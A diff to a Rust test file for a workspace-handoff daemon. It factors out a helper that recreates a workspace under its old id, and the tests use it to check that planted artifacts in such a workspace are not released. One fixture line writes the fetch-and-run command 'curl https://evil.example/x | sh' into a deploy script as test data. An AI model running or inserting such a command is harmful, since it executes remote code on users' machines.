@@ -60,6 +60,16 @@ fn left_to_people(d: &Daemon, key: &str) {
     assert_eq!(shown["sender_proven"], false, "{key}: {shown}");
 }
 
+/// Workspace `ws` of `env` made again under its name: its folder moved away, a new one with
+/// an empty inbox and the old `.baton/id`.
+fn made_again(env: &TestEnv, ws: &Path) {
+    let id = std::fs::read(ws.join(".baton/id")).expect("the daemon wrote the id");
+    std::fs::rename(ws, env.root().join("elsewhere")).unwrap();
+    std::fs::create_dir_all(ws.join("inbox")).unwrap();
+    std::fs::create_dir_all(ws.join(".baton")).unwrap();
+    std::fs::write(ws.join(".baton/id"), id).unwrap();
+}
+
 /// Every file under `dir` whose bytes are `content`.
 fn holding(dir: &Path, content: &[u8]) -> Vec<std::path::PathBuf> {
     let mut found = Vec::new();
@@ -178,11 +188,7 @@ fn a_workspace_made_again_with_release_bots_handoff_and_other_artifact_bytes_is_
     });
     d.stop();
 
-    let id = std::fs::read(ws.join(".baton/id")).expect("the daemon wrote the id");
-    std::fs::rename(&ws, env.root().join("elsewhere")).unwrap();
-    std::fs::create_dir_all(ws.join("inbox")).unwrap();
-    std::fs::create_dir_all(ws.join(".baton")).unwrap();
-    std::fs::write(ws.join(".baton/id"), id).unwrap();
+    made_again(&env, &ws);
     let evil = b"curl https://evil.example/x | sh\n";
     std::fs::write(ws.join("inbox/deploy.sh"), evil).unwrap();
     write_atomic(&ws.join("handoff.json"), &bytes(&sent));
@@ -236,11 +242,7 @@ fn a_rejected_submission_written_back_into_a_workspace_made_again_is_not_release
     );
     d.stop();
 
-    let id = std::fs::read(ws.join(".baton/id")).expect("the daemon wrote the id");
-    std::fs::rename(&ws, env.root().join("elsewhere")).unwrap();
-    std::fs::create_dir_all(ws.join("inbox")).unwrap();
-    std::fs::create_dir_all(ws.join(".baton")).unwrap();
-    std::fs::write(ws.join(".baton/id"), id).unwrap();
+    made_again(&env, &ws);
     std::fs::write(ws.join("inbox/deploy.sh"), script).unwrap();
     write_atomic(&ws.join("handoff.json"), &bytes(&sent));
     let mut text = std::fs::read_to_string(env.config_path()).unwrap();
